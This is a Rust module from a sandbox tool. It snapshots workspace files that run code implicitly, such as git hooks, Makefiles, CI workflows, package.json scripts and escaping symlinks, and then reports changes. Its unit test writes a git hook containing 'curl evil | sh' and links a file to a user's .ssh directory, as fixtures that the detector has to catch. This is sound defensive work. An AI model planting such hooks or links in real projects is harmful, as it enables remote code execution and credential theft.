//! Direct workspaces: a snapshot of the paths that run code implicitly on the host
//! ([`super::flags`]), taken when the sandbox starts, and the changes since.
//!
//! The walk does not follow symbolic links, looks inside `.git` directories only at `config`
//! and `hooks/`, and skips `node_modules` directories (dependencies are the package manager's;
//! a clone workspace's change set covers them). Each flagged file or link is recorded by kind,
//! owner-executable bit and SHA-256 of its contents (or target); each `package.json` by the
//! fingerprint of its `scripts`; and every symbolic link pointing outside the directory. After [`MAX_ENTRIES`] directory entries the walk stops and the
//! snapshot says it is incomplete.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use bulkhead_protocol::{ChangeStatus, EntryKind};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::diff::Change;
use super::flags;

/// Most directory entries a snapshot walk looks at.
pub const MAX_ENTRIES: usize = 1_000_000;

/// Directories never entered.
const SKIPPED_DIRS: [&str; 1] = ["node_modules"];

/// One recorded path.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Recorded {
    /// File or symlink.
    pub kind: EntryKind,
    /// Owner-executable bit set.
    pub exec: bool,
    /// SHA-256 (hex) of the contents or target; for `package.json`, its scripts fingerprint.
    pub fingerprint: Option<String>,
}

/// The flagged paths of a directory at one moment.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Snapshot {
    /// False when the walk stopped at [`MAX_ENTRIES`].
    pub complete: bool,
    /// Relative path → what was there.
    pub entries: BTreeMap<String, Recorded>,
}

/// Walks `root` (see the module documentation). Unreadable entries are left out.
pub(crate) fn take(root: &Path) -> Snapshot {
    let mut snap = Snapshot {
        complete: true,
        entries: BTreeMap::new(),
    };
    let mut seen = 0usize;
    let mut stack = vec![String::new()];
    while let Some(dir) = stack.pop() {
        let Ok(read) = fs::read_dir(root.join(&dir)) else {
            continue;
        };
        let in_git = dir == ".git" || dir.ends_with("/.git");
        for entry in read.flatten() {
            seen += 1;
            if seen > MAX_ENTRIES {
                snap.complete = false;
                return snap;
            }
            let name = String::from_utf8_lossy(entry.file_name().as_bytes()).into_owned();
            if in_git && name != "config" && name != "hooks" {
                continue;
            }
            let rel = match dir.is_empty() {
                true => name.clone(),
                false => format!("{dir}/{name}"),
            };
            let Ok(meta) = fs::symlink_metadata(entry.path()) else {
                continue;
            };
            if meta.is_dir() {
                if !SKIPPED_DIRS.contains(&name.as_str()) {
                    stack.push(rel);
                }
                continue;
            }
            if let Some(recorded) = record(&entry.path(), &rel, &meta) {
                snap.entries.insert(rel, recorded);
            }
        }
    }
    snap
}

fn record(path: &Path, rel: &str, meta: &fs::Metadata) -> Option<Recorded> {
    let kind = if meta.is_file() {
        EntryKind::File
    } else if meta.file_type().is_symlink() {
        EntryKind::Symlink
    } else {
        return None;
    };
    let package = flags::is_package_json(rel);
    let contents = match kind {
        EntryKind::Symlink => fs::read_link(path).ok()?.as_os_str().as_bytes().to_vec(),
        _ if package || flags::path_flag(rel).is_some() => fs::read(path).ok()?,
        _ => return None,
    };
    let escaping = kind == EntryKind::Symlink && flags::link_flag(rel, &contents).is_some();
    if !package && !escaping && flags::path_flag(rel).is_none() {
        return None;
    }
    let fingerprint = match package && kind == EntryKind::File {
        true => flags::scripts_fingerprint(&contents),
        false => Some(hex(&Sha256::digest(&contents))),
    };
    Some(Recorded {
        kind,
        exec: meta.mode() & 0o100 != 0,
        fingerprint,
    })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The flagged changes from `before` to `after`, sorted by path.
pub(crate) fn changes(before: &Snapshot, after: &Snapshot) -> Vec<Change> {
    let mut out = Vec::new();
    let paths: std::collections::BTreeSet<&String> =
        before.entries.keys().chain(after.entries.keys()).collect();
    for path in paths {
        let (old, new) = (before.entries.get(path), after.entries.get(path));
        let package = flags::is_package_json(path);
        let (status, kind) = match (old, new) {
            (Some(o), Some(n)) if o == n => continue,
            // A package.json matters only through its scripts.
            (Some(o), Some(n)) if package && o.fingerprint == n.fingerprint => continue,
            (None, Some(n)) if package && n.fingerprint.is_none() => continue,
            (Some(o), None) if package && o.fingerprint.is_none() => continue,
            (Some(_), Some(n)) => (ChangeStatus::Modified, n.kind),
            (None, Some(n)) => (ChangeStatus::Added, n.kind),
            (Some(o), None) => (ChangeStatus::Deleted, o.kind),
            (None, None) => continue,
        };
        let reason = match package {
            true => flags::RULES[14].reason,
            false => flags::path_flag(path).unwrap_or(flags::RULES[15].reason),
        };
        out.push(Change {
            path: path.clone(),
            status,
            kind,
            flag: Some(reason.to_owned()),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    fn write(root: &Path, rel: &str, contents: &str) {
        let path = root.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, contents).unwrap();
    }

    fn summary(changes: &[Change]) -> Vec<(char, &str)> {
        changes
            .iter()
            .map(|c| (c.status.letter(), c.path.as_str()))
            .collect()
    }

    #[test]
    fn changes_to_flagged_paths_since_the_snapshot_are_reported_and_nothing_else() {
        // Arrange
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".git/hooks/pre-commit", "#!/bin/sh\n");
        write(root, ".git/objects/ab/cdef", "blob");
        write(root, "Makefile", "all:\n");
        write(root, ".vscode/tasks.json", "{}");
        write(root, "package.json", r#"{"scripts":{"test":"jest"}}"#);
        write(root, "web/package.json", r#"{"name":"web"}"#);
        write(root, "src/main.rs", "fn main() {}");
        let before = take(root);

        // Act: the guest's changes through a direct share.
        write(root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        fs::set_permissions(root.join("Makefile"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::remove_file(root.join(".vscode/tasks.json")).unwrap();
        write(root, ".github/workflows/ci.yml", "on: push");
        write(
            root,
            "package.json",
            r#"{"version":"2","scripts":{"test":"jest"}}"#,
        );
        write(
            root,
            "web/package.json",
            r#"{"name":"web","scripts":{"x":"y"}}"#,
        );
        write(root, "node_modules/dep/Makefile", "all:\n");
        write(root, "src/main.rs", "fn main() { evil() }");
        std::os::unix::fs::symlink("/home/user/.ssh", root.join("keys")).unwrap();
        std::os::unix::fs::symlink("src/main.rs", root.join("inside")).unwrap();
        let after = take(root);
        let changes = changes(&before, &after);

        // Assert
        assert!(before.complete && after.complete);
        assert_eq!(
            summary(&changes),
            [
                ('M', ".git/hooks/pre-commit"),
                ('A', ".github/workflows/ci.yml"),
                ('D', ".vscode/tasks.json"),
                ('M', "Makefile"),
                ('A', "keys"),
                ('M', "web/package.json"),
            ]
        );
        assert!(changes.iter().all(|c| c.flag.is_some()));
        assert!(changes[4].flag.as_deref().unwrap().contains("outside"));
        assert!(changes[5].flag.as_deref().unwrap().contains("scripts"));
    }
}
